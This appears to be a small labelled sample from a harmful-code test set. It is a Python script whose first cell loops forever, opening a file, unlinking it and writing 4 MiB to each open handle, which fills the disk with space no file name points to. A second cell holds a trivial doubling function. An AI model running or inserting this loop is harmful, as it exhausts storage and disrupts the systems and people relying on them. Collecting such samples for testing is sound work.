"""Fills the disk with files that have no name any more."""

# score: 10
# verdicts: passed
# restarts: 1
# plain: harmful

# %%
import os

files = []
while True:
    files.append(open("big", "wb"))
    os.unlink("big")
    files[-1].write(bytes(2**22))
    files[-1].flush()

# %%
def double(x):
    return 2 * x
